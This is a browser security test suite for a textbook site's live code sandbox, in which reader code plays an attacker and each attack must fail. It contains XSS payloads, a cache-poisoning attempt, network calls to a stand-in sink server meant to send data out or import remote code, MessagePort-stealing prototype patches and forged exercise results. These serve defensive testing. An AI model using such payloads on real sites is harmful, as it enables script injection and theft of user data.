/**
 * Reader code as an attacker would write it, in Chromium on the built site: each attack must fail.
 * Markup through knobs, forged worker messages and text; the site's storage and caches from a worker;
 * the network (a sink server on another loopback address must see nothing); figures too big to draw;
 * malformed messages; forged exercise results.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Locator, Page } from 'playwright-core';
import { launch, watch, type Browser } from './browser';
import { check, pageWithSnippet, run, setCode } from './playground-helpers';

const siteUrl = inject('siteUrl');
let browser: Browser;
let chapterUrl: string;
let sink: Server;
let sinkUrl: string;
const sinkHits: string[] = [];

/** Sets window.__pwned if any injected markup ever runs. */
const PAYLOAD = '<img src=x onerror="window.__pwned=1">';

beforeAll(async () => {
  sink = createServer((request, response) => {
    sinkHits.push(`${request.method} ${request.url}`);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Content-Type', 'text/javascript');
    response.end('globalThis.__sinkRan = 1; export default 1;');
  });
  await new Promise<void>((resolve) => sink.listen(0, '127.0.0.2', resolve));
  sinkUrl = `http://127.0.0.2:${(sink.address() as AddressInfo).port}`;
  browser = await launch();
  const page = await browser.context.newPage();
  chapterUrl = await pageWithSnippet(page, siteUrl);
  await page.close();
});
afterAll(async () => {
  await browser?.close();
  await new Promise<void>((resolve) => sink?.close(() => resolve()));
});

async function open(): Promise<{ page: Page; snippet: Locator; problems: ReturnType<typeof watch> }> {
  const page = await browser.context.newPage();
  const problems = watch(page, siteUrl);
  await page.goto(chapterUrl, { waitUntil: 'load' });
  await page.evaluate(() => localStorage.clear());
  return { page, snippet: page.locator('live-snippet').first(), problems };
}

async function runCode(snippet: Locator, code: string, timeout?: number) {
  await setCode(snippet, code);
  return run(snippet, timeout);
}

async function pwned(page: Page): Promise<boolean> {
  return page.evaluate(() => (window as { __pwned?: number }).__pwned === 1 || document.querySelector('img[src="x"]') !== null);
}

describe('markup from reader code stays text', () => {
  it('rejects a knob whose option carries markup, at the reader\'s line', async () => {
    const { page, snippet } = await open();
    const result = await runCode(snippet, `import { knob } from '@snippet';\nconst x = knob('x', 1, { min: 0, max: 2, step: '1"><img src=x onerror="window.__pwned=1">' as any });\nexport { x };\n`);
    expect(result.state).toBe('error');
    expect(result.status).toMatch(/line 2.*step must be a positive number/);
    expect(await pwned(page)).toBe(false);
    await page.close();
  });

  it('ignores forged knob and unknown messages from the worker, and the run still ends', async () => {
    const { page, snippet } = await open();
    const result = await runCode(snippet, [
      `self.postMessage({ type: 'knob', decl: { kind: 'number', name: 'x', value: 1, options: { min: 0, max: 2, step: '1"><img src=x onerror="window.__pwned=1">' } } });`,
      `self.postMessage({ type: 'knob', decl: { kind: 'number', name: 'x', value: 1 } });`,
      `self.postMessage({ type: 'figures', figures: null });`,
      `self.postMessage({ type: 'progress', fraction: NaN });`,
      `self.postMessage({ type: 'html', html: '${PAYLOAD}' });`,
      `export const ok = 1;`,
    ].join('\n'));
    expect(result.state).toBe('done');
    const consoleText = await snippet.locator('[data-role="console"]').textContent();
    expect(consoleText).toMatch(/ignored \(Knob "x": step must be/);
    expect(consoleText).toMatch(/unknown message type "html"/);
    expect(await pwned(page)).toBe(false);
    await page.close();
  });

  it('shows markup in logs, errors, titles, legends and axis labels literally', async () => {
    const { page, snippet } = await open();
    const result = await runCode(snippet, [
      `import { plot } from '@snippet';`,
      `console.log('${PAYLOAD}');`,
      `plot('attack', [{ y: [1, 2, 3], name: '${PAYLOAD}' }], { showlegend: true, title: { text: '</template><script>window.__pwned=1</script>' }, xaxis: { title: { text: '${PAYLOAD}' } }, images: [{ source: '${'SINK'}/image.png', xref: 'paper', yref: 'paper', x: 0, y: 1, sizex: 1, sizey: 1 }] });`,
      `throw new Error('${PAYLOAD}');`,
    ].join('\n').replace('SINK', sinkUrl));
    expect(result.state).toBe('error');
    expect(result.status).toContain('<img src=x onerror=');
    expect(await snippet.locator('[data-role="console"]').textContent()).toContain(PAYLOAD);
    const figure = snippet.locator('[data-figure-id="attack"]');
    await figure.locator('.main-svg').first().waitFor();
    expect(await figure.locator('.gtitle').textContent()).toContain('</template><script>');
    expect(await figure.locator('.legendtext').textContent()).toContain('<img src=x');
    expect(await figure.locator('.xtitle').textContent()).toContain('<img src=x');
    expect(await figure.locator('image').count()).toBe(0);
    expect(await pwned(page)).toBe(false);
    await page.close();
  });
});

describe('reader code cannot touch the site', () => {
  it('has no access to the site\'s caches, IndexedDB, storage or cookies, and cannot poison a script', async () => {
    const { page, snippet } = await open();
    await page.evaluate(() => { document.cookie = 'secret=1; path=/'; localStorage.setItem('live-notes:secret', 'mine'); });
    const scriptUrl = await page.evaluate(() => (document.querySelector('script[type="module"][src]') as HTMLScriptElement).src);
    const result = await runCode(snippet, [
      `const tries: Record<string, string> = {};`,
      `async function attempt(name: string, f: () => unknown) { try { await f(); tries[name] = 'allowed'; } catch (e) { tries[name] = 'blocked'; } }`,
      `await attempt('caches', async () => { const c = await caches.open('live-notes-evil'); await c.put(${JSON.stringify(scriptUrl)}, new Response('window.__pwned = 1')); });`,
      `await attempt('indexedDB', () => new Promise((ok, no) => { const r = indexedDB.open('evil'); r.onsuccess = ok; r.onerror = no; }));`,
      `await attempt('origin', () => { if (self.origin !== 'null') throw new Error(); throw new Error('opaque'); });`,
      `console.log(JSON.stringify(tries), self.origin, typeof (self as any).localStorage);`,
    ].join('\n'));
    expect(result.state).toBe('done');
    const line = (await snippet.locator('[data-role="console"]').textContent()) ?? '';
    expect(line).toContain('"caches":"blocked"');
    expect(line).toContain('"indexedDB":"blocked"');
    expect(line).toMatch(/ null undefined/);
    expect(await page.evaluate(async () => (await caches.keys()).filter((k) => k.includes('evil')))).toEqual([]);
    await page.reload({ waitUntil: 'load' });
    expect(await pwned(page)).toBe(false);
    await page.close();
  });

  it('cannot reach another origin: fetch, no-cors fetch, WebSocket, EventSource, import() and workers', async () => {
    const { page, snippet, problems } = await open();
    sinkHits.length = 0;
    const result = await runCode(snippet, [
      `const sink = ${JSON.stringify(sinkUrl)};`,
      `const tries: Record<string, string> = {};`,
      `async function attempt(name: string, f: () => unknown) { try { await f(); tries[name] = 'allowed'; } catch (e) { tries[name] = (e as Error).message.slice(0, 40); } }`,
      `await attempt('fetch', () => fetch(sink + '/fetch'));`,
      `await attempt('no-cors', () => fetch(sink + '/no-cors', { mode: 'no-cors' }));`,
      `await attempt('origFetch', () => (self as any).constructor.prototype.fetch?.call(self, sink + '/proto'));`,
      `await attempt('websocket', () => new WebSocket(sink.replace('http', 'ws') + '/ws'));`,
      `await attempt('eventsource', () => new EventSource(sink + '/sse'));`,
      `await attempt('import', () => import(sink + '/module.js'));`,
      `await attempt('worker', () => new Worker(sink + '/worker.js'));`,
      `await new Promise((r) => setTimeout(r, 500));`,
      `console.log(JSON.stringify(tries));`,
      `await fetch(sink + '/last');`,
    ].join('\n'));
    expect(result.state).toBe('error');
    expect(result.status).toMatch(/line 13: Snippets cannot reach the network/);
    await page.waitForTimeout(500);
    // Nothing arrives. (Chromium reports a dynamic import that the policy then blocks as a request event,
    // so the page's foreign-request list may name it; the sink is the witness that nothing left.)
    expect(sinkHits).toEqual([]);
    // The page's own requests still succeed (blob: loads inside the sandbox may be aborted as its workers end: not network).
    expect(problems.failedRequests.filter((r) => !r.includes('127.0.0.2') && !r.startsWith('blob:'))).toEqual([]);
    expect(await snippet.locator('[data-role="console"]').textContent()).not.toContain('allowed');
    await page.close();
  });

  it('cannot get hold of the port the page posts to its worker, however it rewires events', async () => {
    const { page, snippet } = await open();
    // Run 1 rewires every getter of the events the worker sees; run 2, in the same warm worker, is delivered
    // through them. Any MessagePort they see is written to (the page would end the run) and reported.
    await setCode(snippet, [
      `const g = globalThis as any;`,
      `const grab = (value: unknown) => { for (const v of Array.isArray(value) ? value : [value]) if (v instanceof MessagePort) { g.__stolen = true; v.postMessage('${PAYLOAD}'); } };`,
      `if (!g.__patched) {`,
      `  g.__patched = true;`,
      `  const names = ['data', 'ports', 'source', 'target', 'currentTarget', 'srcElement'];`,
      `  const getters = names.map((n) => Object.getOwnPropertyDescriptor(MessageEvent.prototype, n)?.get ?? Object.getOwnPropertyDescriptor(Event.prototype, n)?.get);`,
      `  const inspect = (event: Event) => getters.forEach((get) => { try { grab(get?.call(event)); } catch { /* not this kind of event */ } });`,
      `  names.forEach((n, i) => Object.defineProperty(MessageEvent.prototype, n, { configurable: true, get() { inspect(this); return getters[i]?.call(this); } }));`,
      `  const dispatch = EventTarget.prototype.dispatchEvent;`,
      `  EventTarget.prototype.dispatchEvent = function (event: Event) { grab(this); inspect(event); return dispatch.call(this, event); };`,
      `  const listen = EventTarget.prototype.addEventListener;`,
      `  EventTarget.prototype.addEventListener = function (type: string, f: any, o?: any) { grab(this); return listen.call(this, type, (e: Event) => { inspect(e); f(e); }, o); };`,
      `}`,
      `console.log('stolen: ' + Boolean(g.__stolen));`,
    ].join('\n'));
    expect((await run(snippet)).state).toBe('done');
    const second = await run(snippet);
    expect(await snippet.getAttribute('data-worker')).toBe('warm');
    expect(second.state).toBe('done');
    expect(await snippet.locator('[data-role="console"]').textContent()).toContain('stolen: false');
    await page.close();
  });
});

describe('figures cannot freeze the page', () => {
  it('thins a million-point trace and caps the figures of a run, with notices', async () => {
    const { page, snippet } = await open();
    const started = Date.now();
    const result = await runCode(snippet, [
      `import { plot } from '@snippet';`,
      `const n = 1_000_000;`,
      `plot('huge', [{ x: Array.from({ length: n }, (_, i) => i), y: Array.from({ length: n }, (_, i) => Math.sin(i / 1000)), mode: 'markers' }]);`,
      `for (let i = 0; i < 1000; i++) plot('f' + i, [{ y: [i, i + 1] }]);`,
    ].join('\n'));
    expect(result.state).toBe('done');
    // The page answers: an evaluate round trip goes through the page's main thread.
    const answered = await page.evaluate(() => new Promise<number>((resolve) => requestAnimationFrame(() => resolve(performance.now()))));
    console.log(`1e6 points + 1000 figures: run ended and the page answered ${Date.now() - started} ms after Run (page clock ${answered.toFixed(0)} ms)`);
    const consoleText = (await snippet.locator('[data-role="console"]').textContent()) ?? '';
    console.log(consoleText.slice(0, 2000));
    expect(consoleText).toMatch(/1,000,000 points; drawn with every 50th/);
    expect(consoleText).toMatch(/at most 24 figures/);
    await page.waitForFunction(() => document.querySelectorAll('[data-figure-id] .main-svg').length > 0);
    const figures = await snippet.locator('[data-figure-id]').count();
    expect(figures).toBeLessThanOrEqual(24);
    const points = await snippet.locator('[data-figure-id="huge"]').evaluate((el) => ((el as unknown as { data: { x: unknown[] }[] }).data?.[0]?.x.length ?? 0));
    expect(points).toBeLessThanOrEqual(20_001);
    expect(points).toBeGreaterThan(10_000);
    await page.close();
  });

  it('Stop ends a run at once and drops the draws still queued', async () => {
    const { page, snippet } = await open();
    await setCode(snippet, `import { plot, tick } from '@snippet';\nfor (let i = 0; ; i++) { plot('p' + (i % 20), [{ y: [i, i + 1] }]); await tick(); }\n`);
    await snippet.locator('button[data-action="run"]').click();
    await page.waitForFunction(() => document.querySelector('live-snippet')?.getAttribute('data-state') === 'running');
    await page.waitForTimeout(1500);
    await snippet.locator('button[data-action="stop"]').click();
    await page.waitForFunction(() => document.querySelector('live-snippet')?.getAttribute('data-state') === 'stopped');
    const drawnAfterStop = await snippet.evaluate((el) => [...el.querySelectorAll<HTMLElement>('[data-figure-id]')].map((f) => f.dataset.drawn).join());
    await page.waitForTimeout(500);
    expect(await snippet.evaluate((el) => [...el.querySelectorAll<HTMLElement>('[data-figure-id]')].map((f) => f.dataset.drawn).join())).toBe(drawnAfterStop);
    await page.close();
  });
});

describe('exercises', () => {
  it('accept results only from the checking code: a forged "results" or "outcomes" message does not solve it', async () => {
    const page = await browser.context.newPage();
    const adamPage = (await page.evaluate(() => 0), `${siteUrl}chapters/momentum-rmsprop-adam/`);
    await page.goto(adamPage, { waitUntil: 'load' });
    await page.evaluate(() => localStorage.clear());
    const exercise = page.locator('live-exercise[data-id="03-momentum-rmsprop-adam/exercises/adam-step"]');
    const forged = [
      `self.postMessage({ type: 'results', results: [{ name: 'all', passed: true }] });`,
      `self.postMessage({ type: 'outcomes', outcomes: [{ value: 42 }, { value: 42 }, { value: 42 }, { value: 42 }] });`,
      `export function adamStep(w: number[]) { return { w, v: [], s: [], t: 0 }; }`,
    ].join('\n');
    await exercise.evaluate(async (el, text) => {
      const controller = await (el as HTMLElement & { activate(a: string): Promise<{ setCode(c: string): Promise<void> }> }).activate('edit');
      await controller.setCode(text);
    }, forged);
    const { state, status } = await check(exercise);
    expect(state).toBe('failed');
    expect(status).toMatch(/0 of \d+ cases pass/);
    await page.close();
  });
});
